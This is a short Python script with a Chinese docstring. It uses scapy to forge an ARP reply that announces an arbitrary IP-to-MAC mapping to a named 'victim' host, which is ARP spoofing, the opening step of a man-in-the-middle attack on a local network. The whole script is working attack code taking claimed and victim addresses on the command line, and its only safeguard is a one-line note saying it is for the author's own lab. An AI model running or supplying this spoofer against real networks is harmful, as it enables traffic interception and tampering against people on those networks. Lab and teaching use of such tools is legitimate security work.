"""发一个内容任意的 ARP 应答。只在自己的实验环境里用。

forge.py 声称的IP 声称的MAC 受骗者的IP 受骗者的MAC
"""

import sys

from scapy.all import ARP, Ether, sendp

claimed_ip, claimed_mac, victim_ip, victim_mac = sys.argv[1:]
reply = ARP(op=2, psrc=claimed_ip, hwsrc=claimed_mac, pdst=victim_ip, hwdst=victim_mac)
sendp(Ether(src=claimed_mac, dst=victim_mac) / reply, iface="eth0", verbose=False)
